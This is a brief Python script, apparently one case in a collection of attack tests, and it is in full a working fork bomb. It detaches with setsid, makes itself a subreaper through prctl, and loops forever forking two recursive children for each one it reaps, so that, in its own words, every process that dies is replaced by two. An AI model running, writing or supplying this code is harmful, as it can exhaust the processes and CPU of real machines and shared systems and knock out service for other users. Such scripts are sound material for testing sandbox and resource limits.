# Every process that dies is replaced by two.
import ctypes, os, signal, time
from attack import done


def live(depth):
    ctypes.CDLL(None).prctl(36, 1, 0, 0, 0)
    while True:
        for _ in range(2):
            try:
                if os.fork() == 0:
                    live(depth + 1)
            except OSError:
                time.sleep(0.01)
        try:
            os.wait()
        except OSError:
            pass


if os.fork() == 0:
    os.setsid()
    live(0)
time.sleep(0.3)
done()
